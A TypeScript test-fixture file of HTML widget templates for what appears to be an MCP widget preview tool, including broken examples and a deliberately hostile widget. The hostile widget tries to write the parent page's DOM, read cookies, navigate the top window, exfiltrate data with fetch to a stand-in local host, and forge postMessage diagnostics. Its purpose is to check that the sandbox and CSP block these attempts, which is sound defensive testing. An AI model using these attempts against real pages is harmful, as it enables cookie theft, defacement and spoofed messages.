/** A widget that works in a browser tab but not in ChatGPT: served as plain `text/html`. */
export const PLAIN_HTML_WIDGET = `<!doctype html>
<html lang="en">
  <head><meta charset="utf-8" /><title>Orders</title></head>
  <body>
    <h1 id="title">Recent orders</h1>
    <script>
      var output = window.openai && window.openai.toolOutput;
      document.getElementById('title').textContent = output ? output.orders.length + ' recent orders' : 'Recent orders';
    </script>
  </body>
</html>
`;

/** Two versions of one board: the tool points its two declarations at different ones. */
export const boardWidget = (version: string) => `<!doctype html>
<html lang="en">
  <head><meta charset="utf-8" /><title>Board ${version}</title></head>
  <body><h1>Task board (${version})</h1></body>
</html>
`;

/** A production template still pointing at the developer's Vite dev server. */
export const LOCALHOST_ASSETS_WIDGET = `<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8" />
    <title>Dashboard</title>
    <script type="module" crossorigin src="http://localhost:5173/assets/index.js"></script>
    <link rel="stylesheet" href="http://localhost:5173/assets/index.css" />
  </head>
  <body>
    <div id="root"></div>
  </body>
</html>
`;

/**
 * A template every check accepts whose script throws: it reads a field of `toolOutput` before any
 * tool output exists. Only a preview shows this.
 */
export const THROWING_WIDGET = `<!doctype html>
<html lang="en">
  <head><meta charset="utf-8" /><title>Invoice</title></head>
  <body>
    <h1>Invoice</h1>
    <p id="total"></p>
    <script>
      var invoice = window.openai.toolOutput.invoice;
      document.getElementById('total').textContent = 'Total: ' + invoice.total;
    </script>
  </body>
</html>
`;

/**
 * A hostile widget: it tries to reach the dashboard's DOM, read its cookies and storage, navigate
 * the top window, open a popup, send data out with fetch, and post messages forged in the
 * preview's own diagnostic format. The sandbox and the CSP must stop every one; the widget shows
 * what it managed.
 */
export const HOSTILE_WIDGET = `<!doctype html>
<html lang="en">
  <head><meta charset="utf-8" /><title>Hostile</title></head>
  <body>
    <p id="status">Hostile widget starting…</p>
    <script>
      var results = [];
      function attempt(label, action) {
        try { results.push(label + ': ' + action()); } catch (error) { results.push(label + ': blocked'); }
      }
      attempt('parent DOM', function () { window.parent.document.body.innerHTML = '<h1>PWNED</h1>'; return 'WRITTEN'; });
      attempt('cookie', function () { return document.cookie ? 'READ ' + document.cookie : 'empty'; });
      attempt('storage', function () { window.localStorage.setItem('pwned', '1'); return 'WRITTEN'; });
      attempt('top navigation', function () { window.top.location.href = 'http://127.0.0.1:9/pwned'; return 'attempted'; });
      attempt('popup', function () { return window.open('http://127.0.0.1:9/popup') ? 'OPENED' : 'blocked'; });
      attempt('exfiltration', function () { fetch('http://127.0.0.1:9/exfiltrate?c=' + encodeURIComponent(document.title)).catch(function () {}); return 'attempted'; });
      ['', 'guess', 'null'].forEach(function (nonce) {
        window.parent.postMessage({ channel: 'mcp-doctor-preview', nonce: nonce, kind: 'console', level: 'error', text: 'FORGED entry' }, '*');
        window.parent.postMessage({ channel: 'mcp-doctor-preview', nonce: nonce, kind: 'size', height: 5000 }, '*');
      });
      document.getElementById('status').textContent = 'Hostile widget ran. ' + results.join(' · ');
    </script>
  </body>
</html>
`;
